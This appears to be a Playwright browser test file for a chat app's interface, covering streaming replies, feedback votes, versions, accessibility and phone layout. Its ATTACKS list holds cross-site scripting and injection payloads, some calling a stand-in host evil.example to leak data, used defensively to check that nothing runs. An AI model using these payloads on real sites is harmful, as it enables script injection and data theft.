"""The pages in a real browser: Chromium against the real pages over a fake session.

Every page of every test is watched: a script error, or a request to another host, fails it.
"""

from __future__ import annotations

import os
import re
from dataclasses import replace
from pathlib import Path

import pytest
from browsing import (
    answers,
    composer,
    expect,
    press,
    send,
)
from fake_session import LONG_ANSWER, YOU, FakeSession, make_version

from chatfeedback.records import EngineState, TraitBelief

pytestmark = pytest.mark.browser


# --- the story ------------------------------------------------------------------------------


def test_a_chat_streams_and_survives_a_reload(visit, session):
    page = visit()
    session.says = lambda prompt: f"**Blue**, because {LONG_ANSWER}"
    session.pieces.clear()
    composer(page).fill("Why is the sky blue?")
    composer(page).press("Enter")
    expect(page.locator("#live .md")).to_contain_text("Blue, because word0")
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    session.pieces.set()
    expect(answers(page)).to_contain_text("word399")
    expect(answers(page).locator("strong")).to_have_text("Blue")
    expect(page).to_have_url(re.compile(r"\?c=1$"))
    page.reload()
    expect(answers(page)).to_contain_text("word399")
    expect(page.get_by_role("heading", level=1)).to_have_text("Why is the sky blue?")
    expect(page.get_by_role("link", name="Why is the sky blue?")).to_have_attribute(
        "aria-current", "page"
    )


def test_enter_sends_shift_enter_does_not_and_blanks_are_not_sent(visit, session):
    page = visit()
    composer(page).fill("   ")
    composer(page).press("Enter")
    composer(page).fill("one")
    composer(page).press("Shift+Enter")
    composer(page).press_sequentially("two")
    composer(page).press("Enter")
    expect(page.locator("#transcript .bubble")).to_have_text("one\ntwo")
    assert [message.text for message in session.messages] == ["one\ntwo"]


def test_what_is_typed_while_an_answer_streams_is_left_alone(visit, session):
    page = visit()
    session.says = lambda prompt: LONG_ANSWER
    session.pieces.clear()
    composer(page).fill("hello")
    composer(page).press("Enter")
    expect(page.locator("#live .md")).to_contain_text("word2")
    composer(page).press_sequentially("my next question", delay=20)
    composer(page).press("Enter")  # one answer at a time: this waits
    expect(composer(page)).to_have_value("my next question")
    session.pieces.set()
    expect(answers(page)).to_contain_text("word399")
    expect(composer(page)).to_have_value("my next question")
    assert len(session.messages) == 1


def test_stop_keeps_the_text_so_far(visit, session):
    page = visit()
    session.says = lambda prompt: LONG_ANSWER
    session.pieces.clear()
    composer(page).fill("hello")
    composer(page).press("Enter")
    expect(page.locator("#live .md")).to_contain_text("word2")
    press(page, "Stop")
    expect(answers(page)).to_have_text("word0 word1 word2")
    expect(page.locator("#transcript .state")).to_contain_text("Stopped. The text so far is kept.")
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible()
    assert session.closed_streams == 1


def test_closing_the_tab_stops_the_reply(visit, session):
    page = visit()
    session.says = lambda prompt: LONG_ANSWER
    session.pieces.clear()
    composer(page).fill("hello")
    composer(page).press("Enter")
    expect(page.locator("#live .md")).to_contain_text("word2")
    page.close()
    other = visit("?c=1")
    expect(answers(other)).to_have_text("word0 word1 word2")


def test_a_thumb_teaches_takes_reasons_and_can_be_taken_back(visit, session):
    page = visit()
    send(page, "hello")
    press(page, "Dislike")
    expect(
        page.get_by_role("status").filter(has_text="Learned from a thumb in 3 ms")
    ).to_be_visible()
    expect(page.locator(".ask")).to_have_text("What was wrong?")
    press(page, "Too long")
    expect(page.get_by_role("button", name="Too long", exact=True)).to_have_attribute(
        "aria-pressed", "true"
    )
    page.reload()
    expect(page.get_by_role("button", name="Disliked", exact=True)).to_be_visible()
    press(page, "Disliked")
    expect(page.get_by_role("button", name="Dislike", exact=True)).to_be_visible()
    assert session.thumbs(YOU, [1]) == {}
    assert session.chips(YOU, [1]) == {1: ("too long",)}


def test_two_answers_are_judged_by_key_and_the_winner_joins(visit, session):
    page = visit()
    page.get_by_role("checkbox", name="Compare two answers").check()
    send(page, "tea or coffee?")
    expect(page.get_by_role("region", name="Answer B")).to_contain_text("Second:")
    page.keyboard.press("2")
    expect(answers(page)).to_contain_text("Second: You asked: tea or coffee?")
    expect(page.locator(".note")).to_contain_text("both answers were by the base model")
    expect(page.get_by_role("region", name="Answer A")).to_have_count(0)
    assert [event.event.outcome for event in session.events] == ["second"]
    expect(composer(page)).to_be_focused()
    page.reload()
    expect(page.get_by_role("checkbox", name="Compare two answers")).to_be_checked()


def test_a_vote_that_is_taken_back_can_be_given_again(visit, session):
    page = visit()
    page.get_by_role("checkbox", name="Compare two answers").check()
    send(page, "tea or coffee?")
    press(page, "Tie")
    press(page, "Undo")
    expect(page.get_by_role("region", name="Answer B")).to_contain_text("Second:")
    page.keyboard.press("2")
    expect(answers(page)).to_contain_text("Second: You asked: tea or coffee?")
    assert [each.event.outcome for each in session.events] == ["tie", None, "second"]


def test_digits_typed_into_the_composer_are_no_votes(visit, session):
    page = visit()
    page.get_by_role("checkbox", name="Compare two answers").check()
    send(page, "tea or coffee?")
    composer(page).press_sequentially("1 apple 2")
    expect(composer(page)).to_have_value("1 apple 2")
    assert session.events == []


def test_an_open_comparison_waits_through_a_reload(visit, session):
    page = visit()
    page.get_by_role("checkbox", name="Compare two answers").check()
    send(page, "tea or coffee?")
    page.reload()
    press(page, "Tie")
    expect(answers(page)).to_contain_text("You asked: tea or coffee?")
    assert [event.event.outcome for event in session.events] == ["tie"]


def test_another_answer_and_back_again(visit, session):
    page = visit()
    send(page, "hello")
    session.says = lambda prompt: "A second try."
    press(page, "Write another answer")
    expect(page.locator(".pager .at")).to_have_text("2/2")
    expect(answers(page)).to_have_text("A second try.")
    press(page, "Previous answer")
    expect(answers(page)).to_have_text("You asked: hello")
    expect(page.locator(".pager .at")).to_have_text("1/2")


def test_a_better_answer_is_written_and_taught(visit, session):
    page = visit()
    send(page, "hello")
    press(page, "Write a better answer")
    better = page.get_by_role("textbox", name="Better answer")
    expect(better).to_have_value("You asked: hello")
    better.fill("Hi!")
    press(page, "Save as better answer")
    expect(answers(page)).to_have_text("Hi!")
    assert session.events[-1].event.text == "Hi!"
    press(page, "Edit answer")
    better.fill("Hey!")
    press(page, "Save")
    expect(answers(page)).to_have_text("Hey!")
    assert len(session.events) == 1  # only the wording of this conversation changed


def test_conversations_are_renamed_deleted_and_brought_back(visit, session):
    page = visit()
    send(page, "old name")
    talk = page.locator(".talk.on")
    talk.get_by_role("button", name="Rename old name").click()
    page.get_by_role("textbox", name="New title").fill("new name")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("new name")
    talk.get_by_role("button", name="Delete new name").click()
    expect(page.get_by_role("link", name="new name")).to_have_count(0)
    expect(page.get_by_role("heading", level=2)).to_have_text("What shall we talk about?")
    press(page, "Undo")
    expect(page.get_by_role("link", name="new name")).to_be_visible()
    expect(answers(page)).to_have_text("You asked: old name")


def test_conversations_are_found_and_opened(visit, session):
    for title, day in (("Tea", "2026-11-02"), ("Coffee", "2026-11-03")):
        conversation = session.add_conversation(title, at=f"{day}T10:00:00+00:00")
        list(session.reply(YOU, conversation, f"About {title}", f"client-{title}"))
    page = visit()
    page.get_by_role("searchbox", name="Search chats").fill("abou")
    expect(page.locator(".talk:visible")).to_have_count(2)
    page.get_by_role("searchbox", name="Search chats").fill("tea")
    expect(page.locator(".talk:visible")).to_have_count(1)
    page.get_by_role("link", name="About Tea").click()
    expect(answers(page)).to_have_text("You asked: About Tea")
    press(page, "New chat")
    expect(page.get_by_role("heading", level=2)).to_have_text("What shall we talk about?")
    page.go_back()
    expect(answers(page)).to_have_text("You asked: About Tea")


def test_opening_another_conversation_stops_the_reply_and_shows_only_that_one(visit, session):
    page = visit()
    send(page, "first")
    press(page, "New chat")
    expect(page.get_by_role("heading", level=2)).to_have_text("What shall we talk about?")
    session.says = lambda prompt: LONG_ANSWER
    session.pieces.clear()
    composer(page).fill("second")
    composer(page).press("Enter")
    expect(page.locator("#live .md")).to_contain_text("word2")
    page.get_by_role("link", name="first").click()
    expect(answers(page)).to_have_text("You asked: first")
    expect(page.locator("#live .exchange")).to_have_count(0)
    expect(answers(page)).to_have_text("You asked: first")
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible()
    page.get_by_role("link", name="second").click()
    expect(answers(page)).to_have_text("word0 word1 word2")


# --- learning -------------------------------------------------------------------------------


def test_a_new_version_brings_a_receipt_and_undo_rolls_back(visit, session):
    page = visit()
    expect(page.locator(".pill .words")).to_have_text("Nothing to learn yet.")
    session.all_versions = [make_version(1, "serving")]
    receipt = page.get_by_role("region", name="What changed")
    expect(receipt).to_contain_text("Version 1 now answers you")
    expect(receipt).to_contain_text("Steep 3 minutes")
    receipt.get_by_role("button", name="Undo: back to the base model").click()
    expect(page.get_by_text("The base model answers from the next reply on.")).to_be_visible()
    assert session.serving(YOU, "starter") is None
    expect(receipt).to_have_count(0)


# --- when things go wrong -------------------------------------------------------------------


def test_history_is_readable_while_no_model_answers_and_the_draft_stays(visit, session):
    conversation = session.add_conversation("Tea")
    list(session.reply(YOU, conversation, "About tea", "client-0001"))
    session.engine = EngineState("failed", "The model folder /models/x has no weights.")
    page = visit(f"?c={conversation}")
    expect(answers(page)).to_have_text("You asked: About tea")
    notice = page.locator("#engine-notice")
    expect(notice).to_have_text("The model folder /models/x has no weights.")
    composer(page).fill("my draft")
    composer(page).press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("Your message was not sent")
    expect(composer(page)).to_have_value("my draft")
    session.engine = FakeSession().engine
    expect(notice).to_be_hidden()
    composer(page).press("Enter")
    expect(answers(page)).to_have_count(2)


ATTACKS = [
    "<script>window.PWN=1</script>",
    "<img src=x onerror=window.PWN=1>",
    "![x](http://evil.example/?q=secret)",
    "<video autoplay src=http://evil.example/x.mp4></video>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(http://evil.example/)'>x</div>",
    "<form action=http://evil.example><input type=password></form>",
    "<svg/onload=window.PWN=1>",
    "[x](javascript:window.PWN=1)",
    "${window.PWN=1}",
    "{{constructor.constructor('window.PWN=1')()}}",
    "`${String.fromCharCode(window.PWN=1)}`",
    "```js\n${window.PWN=1}</code></pre><img src=x onerror=window.PWN=1>\n```",
    "\"'><iframe src=javascript:parent.PWN=1></iframe>",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "$$\\href{javascript:window.PWN=1}{x}$$",
    "$\\text{<img src=x onerror=window.PWN=1>}$",
    "\\(\\text{<script>window.PWN=1</script>}\\)",
    "a' onmouseover='window.PWN=1",
]


def test_nothing_that_is_said_or_named_runs_or_reaches_out(visit, session):
    session.says = lambda prompt: prompt
    for number, attack in enumerate(ATTACKS):
        conversation = session.add_conversation(attack)
        list(session.reply(YOU, conversation, attack, f"client-{number:04}"))
        session.rename_conversation(YOU, conversation, attack)
    everything = session.add_conversation("all of them")
    for number, attack in enumerate(ATTACKS):
        list(session.reply(YOU, everything, attack, f"again-{number:04}"))
        report = make_version(1).report
        assert report is not None
        example = replace(report.examples[0], prompt=attack, before=attack, after=attack)
        session.all_versions.append(
            make_version(
                number + 1,
                adapter_id=attack,
                report=replace(report, reasons=(attack,), examples=(example,)),
                created_at_utc="2026-11-20T10:00:00+00:00",
            )
        )
    session.traits = [TraitBelief("x", attack, 0.5, 0.1, 0.99) for attack in ATTACKS[:8]]
    session.status = replace(session.status, message=ATTACKS[1], last_outcome=ATTACKS[10])
    page = visit(f"?c={everything}")
    expect(page.locator("#transcript .exchange")).to_have_count(len(ATTACKS))
    page.get_by_role("button", name="Copy answer").last.click()  # nothing lies over the page
    for _ in range(3):
        page.locator(".talk .open").nth(2).click()
    page.goto(page.url.split("#")[0] + "#learning")
    expect(page.locator(".version")).to_have_count(len(ATTACKS) + 1)
    assert page.evaluate("window.PWN") is None
    assert page.locator(".md :is(img, iframe, form, script, video, svg, style)").count() == 0


def test_the_page_asks_for_the_launch_link_without_a_cookie(browser, server, session):
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.url)
    expect(page.get_by_role("heading", level=1)).to_have_text("This page is private")
    context.close()


# --- for everybody --------------------------------------------------------------------------


def test_every_button_has_a_name_and_can_be_reached_by_key(visit, session):
    page = visit()
    send(page, "hello")
    expect(composer(page)).to_be_visible()
    nameless = page.evaluate(
        """() => [...document.querySelectorAll('button, a[href], input, textarea')]
            .filter(each => each.offsetParent)
            .filter(each => !(each.getAttribute('aria-label') || each.textContent.trim()
                || each.labels?.[0]?.textContent.trim() || each.title))
            .map(each => each.outerHTML.slice(0, 120))"""
    )
    assert nameless == []
    composer(page).focus()
    page.keyboard.press("Shift+Tab")
    seen = set()
    for _ in range(25):
        seen.add(page.evaluate("document.activeElement.getAttribute('aria-label') || ''"))
        page.keyboard.press("Shift+Tab")
    assert {"Like", "Dislike", "Copy answer", "Write another answer", "Rename hello"} <= seen


def test_slash_leads_to_the_composer_and_escape_out_of_it(visit, session):
    page = visit()
    expect(composer(page)).to_be_focused()
    page.keyboard.press("Escape")
    expect(composer(page)).not_to_be_focused()
    page.keyboard.press("/")
    expect(composer(page)).to_be_focused()
    expect(composer(page)).to_have_value("")


def test_a_phone_needs_no_sideways_scrolling(visit, session):
    session.says = lambda prompt: f"# Title\n\n{'x' * 300}\n\n```\n{'y' * 300}\n```\n\n{prompt}"
    session.all_versions = [make_version(1, "serving")]
    page = visit(width=390)
    page.get_by_role("checkbox", name="Compare two answers").check()
    send(page, "hello")
    wide = "document.documentElement.scrollWidth"
    assert page.evaluate(wide) == 390
    page.get_by_role("button", name=re.compile("^A is better")).click()
    expect(page.locator(".note")).to_contain_text("Learned")
    assert page.evaluate(wide) == 390
    assert page.evaluate("document.querySelector('#scroll').scrollWidth") <= 390
    page.get_by_role("button", name="Sidebar").first.click()
    page.get_by_role("link", name="Learning", exact=True).click()
    expect(page.get_by_role("heading", name="Versions", exact=True)).to_be_visible()
    assert page.evaluate(wide) == 390


def test_the_theme_is_chosen_and_kept(visit, session):
    page = visit()
    expect(page.locator("body")).not_to_have_class(re.compile(r"\bdark\b"))
    press(page, "Light or dark")
    expect(page.locator("body")).to_have_class(re.compile(r"\bdark\b"))
    page.reload()
    expect(composer(page)).to_be_enabled()
    expect(page.locator("body")).to_have_class(re.compile(r"\bdark\b"))


def test_eight_tabs_are_open_at_once(visit, session):
    pages = [visit() for _ in range(2)]
    context = pages[0].context
    pages += [context.new_page() for _ in range(7)]
    for page in pages[2:]:
        page.goto(pages[0].url)
        expect(composer(page)).to_be_enabled()
    send(pages[-1], "hello")
    expect(answers(pages[-1])).to_have_text("You asked: hello")


def test_a_conversation_of_400_messages_streams_smoothly(visit, session):
    conversation = session.add_conversation("long")
    for number in range(200):
        list(session.reply(YOU, conversation, f"question {number}", f"client-{number:04}"))
    page = visit(f"?c={conversation}")
    expect(page.locator("#transcript .exchange")).to_have_count(50)
    page.evaluate(
        """() => { window.drawn = 0; document.addEventListener('cf:transcript',
            event => { if (!event.detail.live) window.drawn += 1; }); }"""
    )
    session.says = lambda prompt: LONG_ANSWER
    session.pieces.clear()
    composer(page).fill("and now?")
    composer(page).press("Enter")
    expect(page.locator("#live .md")).to_contain_text("word2")
    session.pieces.set()
    expect(answers(page).last).to_contain_text("word399")
    assert page.evaluate("window.drawn") == 1  # when the answer is complete, not at every word


SHOTS = os.environ.get("CHATFEEDBACK_SHOTS")


@pytest.mark.skipif(not SHOTS, reason="set CHATFEEDBACK_SHOTS to a folder to keep pictures")
@pytest.mark.parametrize("look", ["light", "dark", "phone"])
def test_pictures_for_the_docs(visit, session, look):
    session.all_versions = [make_version(1), make_version(2, "serving", "v1")]
    page = visit(width=390 if look == "phone" else 1280, dark=look == "dark")
    send(page, "How do I make tea?")
    page.screenshot(path=Path(str(SHOTS)) / f"chat_{look}.png")
